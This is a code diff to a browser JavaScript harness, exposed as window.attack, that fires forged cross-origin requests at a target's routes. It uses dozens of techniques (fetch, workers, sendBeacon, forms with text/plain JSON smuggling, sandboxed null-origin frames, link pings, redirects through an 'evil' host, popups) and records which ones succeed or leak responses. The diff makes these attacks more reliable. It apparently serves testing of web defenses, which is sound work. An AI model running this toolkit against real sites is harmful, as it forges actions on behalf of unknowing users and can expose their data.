@@ -18,7 +18,7 @@
       node.onload = () => done(node);
       node.onerror = () => done(null);
       set(node);
-      node.hidden = true;
+      node.hidden = tag !== "object"; // one of those that is not shown is not loaded
       (document.body || document.documentElement).appendChild(node);
     });
   const loaded = (tag, key, extra = {}) => async (url) => {
@@ -33,9 +33,10 @@
     if (node) node.remove();
     return /"success":false|"status":4/.test(said) ? "" : said.slice(0, 80);
   };
+  const pause = (ms) => new Promise((done) => setTimeout(done, ms));
   const framed = async (set) => {
     const frame = await within(hidden("iframe", set), null);
-    await new Promise((done) => setTimeout(done, 150));
+    await pause(300);
     if (frame) frame.remove();
     return "";
   };
@@ -60,7 +61,7 @@
     });
     const frame = await done;
     const answered = new Promise((ready) => (frame.onload = ready));
-    form(url, method, kind, fields(body), name);
+    form(url, method, kind, fields(body, url), name);
     await within(answered);
     frame.remove();
     return "";
@@ -69,23 +70,26 @@
   const disguised = (body) => ({ [body.slice(0, -1) + (body.length > 2 ? "," : "") + '"x":"']: '"}' });
   const inside = (script) => `<script>${script}<\/script>`;
   const asked = (url, method, body) =>
-    `for (const mode of ["cors", "no-cors"]) fetch(${JSON.stringify(url)}, {mode, method: ${JSON.stringify(method)}` +
-    `${method === "GET" ? "" : ", body: " + JSON.stringify(body)}}).then(a => a.text()).then(t => t && parent.postMessage("read " + t, "*"), () => 0);` +
-    `parent.postMessage("tried", "*");`;
+    `Promise.all(["cors", "no-cors"].map((mode) => fetch(${JSON.stringify(url)}, {mode, method: ${JSON.stringify(method)}` +
+    `${method === "GET" ? "" : ", body: " + JSON.stringify(body)}}).then(a => a.status < 400 ? a.text() : "", () => "")))` +
+    `.then((texts) => parent.postMessage(texts.join(""), "*"));`;
   const heard = async (set) => {
-    let read = "";
-    const hear = (event) => {
-      if (String(event.data).startsWith("read ")) read = event.data;
-    };
+    const frame = document.createElement("iframe");
+    let hear = null;
+    const said = new Promise((done) => (hear = (event) => event.source === frame.contentWindow && done(event.data)));
     addEventListener("message", hear);
-    await framed(set);
+    set(frame);
+    frame.hidden = true;
+    document.body.appendChild(frame);
+    const read = await within(said);
     removeEventListener("message", hear);
+    frame.remove();
     return read;
   };
   const worker = (kind) => async (url, method, body) => {
     const code = `fetch(${JSON.stringify(url)}, {mode: "${kind}", method: "${method}"${
       method === "GET" ? "" : ", body: " + JSON.stringify(body)
-    }}).then(a => a.text()).then(t => postMessage(t), () => postMessage(""))`;
+    }}).then(a => a.status < 400 ? a.text() : "").then(t => postMessage(t), () => postMessage(""))`;
     const made = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
     const said = await within(new Promise((done) => (made.onmessage = (event) => done(event.data))));
     made.terminate();
@@ -101,6 +105,27 @@
       it.send(method === "GET" ? null : body);
     });
   let popup = null;
+  const until = async (good) => {
+    for (const end = Date.now() + WAIT; !good() && Date.now() < end; ) await pause(10);
+  };
+  // What a window shows; null while it is still empty, nothing when it is another site's.
+  const shown = () => {
+    try {
+      if (popup.location.href === "about:blank") return null;
+      return popup.document.readyState === "complete" ? popup.document.body.innerText : null;
+    } catch (refused) {
+      return "";
+    }
+  };
+  const windowed = (go) => async (url, method, body) => {
+    popup = popup && !popup.closed ? popup : open("about:blank", "popup");
+    if (!popup) return "";
+    popup.location = "about:blank";
+    await until(() => shown() === null);
+    go(url, body);
+    await until(() => shown() !== null);
+    return (shown() || "").slice(0, 80).replace(/.*"success":false.*/s, "");
+  };
   const get = ["GET"], simple = ["GET", "POST"], post = ["POST"], any = ["GET", "POST", "PUT", "DELETE"];
   const by = (options, kind) => (url, method, body) =>
     text(url, { ...options, method, ...bodied(method, kind, body) });
@@ -125,7 +150,7 @@
     "sendBeacon, text": [post, async (u, m, b) => { navigator.sendBeacon(u, b); return ""; }],
     "sendBeacon, JSON": [post, async (u, m, b) => { try { navigator.sendBeacon(u, new Blob([b], { type: "application/json" })); } catch (refused) {} return ""; }],
     "sendBeacon, form": [post, async (u, m, b) => { navigator.sendBeacon(u, new URLSearchParams({ b })); return ""; }],
-    "form, GET": [get, posted("application/x-www-form-urlencoded", () => ({ a: "b" }))],
+    "form, GET": [get, posted("application/x-www-form-urlencoded", (b, u) => Object.fromEntries(new URL(u).searchParams))],
     "form, POST": [post, posted("application/x-www-form-urlencoded", () => ({ a: "b" }))],
     "form, text/plain": [post, posted("text/plain", disguised)],
     "form, multipart": [post, posted("multipart/form-data", () => ({ a: "b" }))],
@@ -149,34 +174,38 @@
     "null origin: form in a sandbox": [post, (u, m, b) => framed((it) => { it.sandbox = "allow-scripts allow-forms"; it.srcdoc = `<form id=f method=post enctype=text/plain action="${u}"><input name='{"x":"' value='"}'></form>` + inside("document.getElementById('f').submit()"); })],
     "ping of a link": [post, async (u) => { const a = document.createElement("a"); Object.assign(a, { href: "#x", ping: u }); document.body.appendChild(a); a.click(); a.remove(); return ""; }],
     "report of a policy": [post, (u) => framed((it) => (it.src = `${config.evil}/policy?report=${encodeURIComponent(u)}`))],
-    "refresh": [get, (u) => framed((it) => (it.src = `${config.evil}/refresh?to=${encodeURIComponent(u)}`))],
-    "window": [get, async (u) => {
-      popup = popup && !popup.closed ? popup : open("about:blank", "popup");
-      if (!popup) return "";
-      popup.location = u;
-      await new Promise((done) => setTimeout(done, 60));
-      try { return popup.document.body.innerText.slice(0, 80).replace(/.*"success":false.*/s, ""); } catch (refused) { return ""; }
+    "refresh": [get, async (u) => {
+      let loads = 0, there = null;
+      const second = new Promise((done) => (there = () => ++loads === 2 && done()));
+      const frame = await within(hidden("iframe", (it) => {
+        it.addEventListener("load", there);
+        it.src = `${config.evil}/refresh?to=${encodeURIComponent(u)}`;
+      }), null);
+      await within(second);
+      if (frame) frame.remove();
+      return "";
     }],
-    "form into a window": [post, async (u, m, b) => { form(u, "post", "text/plain", disguised(b), "popup"); await new Promise((done) => setTimeout(done, 60)); return ""; }],
+    "window": [get, windowed((u) => (popup.location = u)), "alone"],
+    "form into a window": [post, windowed((u, b) => form(u, "post", "text/plain", disguised(b), "popup")), "alone"],
   };
   let config = null;
   window.attackWays = Object.keys(WAYS);
   window.attack = async (asked) => {
     config = asked;
-    const jobs = [];
+    const jobs = [], alone = []; // there is one window: what opens in it would cut off what came before
     for (const name of config.ways) {
-      const [methods, run] = WAYS[name];
+      const [methods, run, order] = WAYS[name];
       const seen = new Set();
       for (const [method, path, body] of config.routes) {
         const used = methods.includes(method) ? method : methods[methods.length - 1];
         if (seen.has(used + path)) continue;
         seen.add(used + path);
-        jobs.push([name, run, used, path, body]);
+        (order ? alone : jobs).push([name, run, used, path, body]);
       }
     }
     const tried = {}, reads = [];
-    const one = async () => {
-      for (let job; (job = jobs.shift()); ) {
+    const one = async (queue) => {
+      for (let job; (job = queue.shift()); ) {
         const [name, run, method, path, body] = job;
         const url = `${config.base}${path}?way=${encodeURIComponent(name)}`;
         const said = await within(Promise.resolve().then(() => run(url, method, body)));
@@ -184,7 +213,8 @@
         if (said) reads.push(`${name}: ${method} ${path}: ${String(said).slice(0, 80)}`);
       }
     };
-    await Promise.all(Array.from({ length: 12 }, one));
+    await Promise.all(Array.from({ length: 12 }, () => one(jobs)));
+    await one(alone); // last: a page behind a window loads no video
     if (popup) popup.close();
     return { tried, reads };
   };
